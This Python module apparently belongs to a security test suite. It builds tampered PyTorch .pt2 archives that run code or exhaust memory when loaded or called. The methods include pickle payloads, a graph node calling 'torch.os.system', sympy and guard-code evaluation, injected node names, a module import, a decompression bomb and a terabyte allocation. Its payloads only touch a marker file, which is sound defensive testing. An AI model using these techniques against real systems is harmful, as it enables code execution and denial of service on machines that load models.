# SPDX-License-Identifier: Apache-2.0
"""ExportedPrograms that run code when PyTorch loads, exports or calls them: ``attack(path, marker)``."""

from __future__ import annotations

import json
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from exporter.torch_models import save_program
from security.attacks.marker import Payload, expression


def edited(path: Path, change: Callable[[str, bytes], bytes | None], extra: dict[str, bytes] | None = None) -> None:
    """An honest program, its members passed through ``change`` (None drops one), ``extra`` members added."""
    honest = path.with_suffix(".honest.pt2")
    save_program(honest)
    with zipfile.ZipFile(honest) as source, zipfile.ZipFile(path, "w") as target:
        for name in source.namelist():
            content = change(name.partition("/")[2], source.read(name))
            if content is not None:
                target.writestr(name, content)
        top = source.namelist()[0].partition("/")[0]
        for name, content in (extra or {}).items():
            target.writestr(f"{top}/{name}", content)


def edited_json(path: Path, change: Callable[[dict[str, Any]], None]) -> None:
    """An honest program whose graph's JSON went through ``change``."""

    def member(name: str, content: bytes) -> bytes:
        if not name.startswith("models/"):
            return content
        document = json.loads(content)
        change(document)
        return json.dumps(document).encode()

    edited(path, member)


def replace_text(path: Path, old: str, new: str) -> None:
    def change(document: dict[str, Any]) -> None:
        text = json.dumps(document)
        assert old in text
        replaced = json.loads(text.replace(old, new))
        document.clear()
        document.update(replaced)

    edited_json(path, change)


def append_node(path: Path, target: str, arguments: list[dict[str, Any]]) -> None:
    """A node that calls ``target`` with positional arguments; it runs when the program is called."""
    node = {
        "target": target,
        "inputs": [{"name": "", "arg": argument, "kind": 1} for argument in arguments],
        "outputs": [{"as_none": True}],
        "metadata": {},
        "is_hop_single_tensor_return": None,
        "name": "evil",
    }
    edited_json(path, lambda document: document["graph_module"]["graph"]["nodes"].append(node))


def a_pickle_as_sample_inputs(path: Path, marker: Path) -> None:
    """torch.export.load falls back to full unpickling where a weights-only load fails."""
    honest = path.with_suffix(".inputs")
    torch.save(((Payload(marker),), {}), honest)
    edited(path, lambda name, content: honest.read_bytes() if name.startswith("data/sample_inputs") else content)


def a_pickle_as_legacy_weights(path: Path, marker: Path) -> None:
    """A member that older archives had; it wins over the weights' config."""
    weights = path.with_suffix(".weights")
    torch.save({"qkv.weight": Payload(marker)}, weights)
    edited(path, lambda name, content: content, {"data/weights/model.pt": weights.read_bytes()})


def a_weight_that_says_it_is_pickled(path: Path, marker: Path) -> None:
    weight = path.with_suffix(".weight")
    torch.save(Payload(marker), weight)

    def change(name: str, content: bytes) -> bytes:
        if name == "data/weights/weight_0":
            return weight.read_bytes()
        return (
            content.replace(b'"use_pickle": false', b'"use_pickle": true') if name.endswith("_config.json") else content
        )

    edited(path, change)


def an_opaque_constant(path: Path, marker: Path) -> None:
    """Constants whose name says so go through pickle.loads."""
    payload = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}
    config = json.dumps({"config": {"evil": payload}}).encode()

    def change(name: str, content: bytes) -> bytes:
        return config if name.endswith("constants_config.json") else content

    edited(path, change, {"data/constants/opaque_obj_0": pickle.dumps(Payload(marker))})


def compiled_code(path: Path, marker: Path) -> None:
    """An AOTInductor member: its library would be loaded into the process."""
    edited(path, lambda name, content: content, {"data/aotinductor/model/evil.so": b"\x7fELF"})


def a_size_expression(path: Path, marker: Path) -> None:
    """expr_str goes through sympy.sympify, which evaluates it."""
    replace_text(path, "Symbol('s77', positive=True, integer=True)", expression(marker).replace("\\", "\\\\"))


def a_size_expression_inside_an_honest_one(path: Path, marker: Path) -> None:
    hostile = f"Add(Integer(2), {expression(marker)})"
    replace_text(path, "Symbol('s77', positive=True, integer=True)", hostile)


def a_size_hidden_under_a_key_named_metadata(path: Path, marker: Path) -> None:
    """Metadata is free text; a tensor that is called metadata is not metadata."""

    def change(document: dict[str, Any]) -> None:
        values = document["graph_module"]["graph"]["tensor_values"]
        evil = json.loads(
            json.dumps(values["x"]).replace("Symbol('s77', positive=True, integer=True)", expression(marker))
        )
        values["metadata"] = evil

    edited_json(path, change)


def a_node_that_calls_the_shell(path: Path, marker: Path) -> None:
    """Targets are looked up below the torch module, which has imported os."""
    append_node(path, "torch.os.system", [{"as_string": f"touch {marker}"}])


def a_node_that_calls_torch_load(path: Path, marker: Path) -> None:
    append_node(path, "torch.hub.load", [{"as_string": str(marker.parent)}, {"as_string": "evil"}])


def a_node_that_uses_operator(path: Path, marker: Path) -> None:
    append_node(path, "_operator.methodcaller", [{"as_string": "system"}])


def a_node_that_maps_a_file(path: Path, marker: Path) -> None:
    """aten.from_file creates the file that it maps."""
    append_node(
        path, "torch.ops.aten.from_file.default", [{"as_string": str(marker)}, {"as_bool": True}, {"as_int": 4}]
    )


def a_guard(path: Path, marker: Path) -> None:
    """guards_code is compiled into a function that runs before the program."""
    edited_json(path, lambda document: document.update(guards_code=[f"{expression(marker)} or True"]))


def a_container_that_imports_a_module(path: Path, marker: Path) -> None:
    """The tree of a defaultdict names a module and a function of it."""
    (marker.parent / "evil_module.py").write_text(expression(marker))
    context = {"default_factory_module": "evil_module", "default_factory_name": "x", "dict_context": []}
    spec = json.dumps([1, {"type": "collections.defaultdict", "context": context, "children_spec": []}])

    def change(document: dict[str, Any]) -> None:
        document["graph_module"]["module_call_graph"][0]["signature"]["in_spec"] = spec

    edited_json(path, change)


def a_name_that_is_source(path: Path, marker: Path) -> None:
    """Names of nodes are pasted into generated Python source."""
    replace_text(path, '"linear"', json.dumps(f"linear = {expression(marker)} #"))


def a_member_that_inflates(path: Path, marker: Path) -> None:
    """A kilobyte that becomes 64 megabytes."""
    honest = path.with_suffix(".honest.pt2")
    save_program(honest)
    with zipfile.ZipFile(honest) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, bytes(64 << 20) if name.endswith("weight_0") else source.read(name))


def a_weight_of_a_terabyte_without_data(path: Path, marker: Path) -> None:
    """A member without bytes makes PyTorch allocate what the sizes say."""

    def change(name: str, content: bytes) -> bytes:
        if name == "data/weights/weight_0":
            return b""
        return (
            content.replace(b'"as_int": 72', b'"as_int": 72000000000')
            if name.endswith("weights_config.json")
            else content
        )

    edited(path, change)
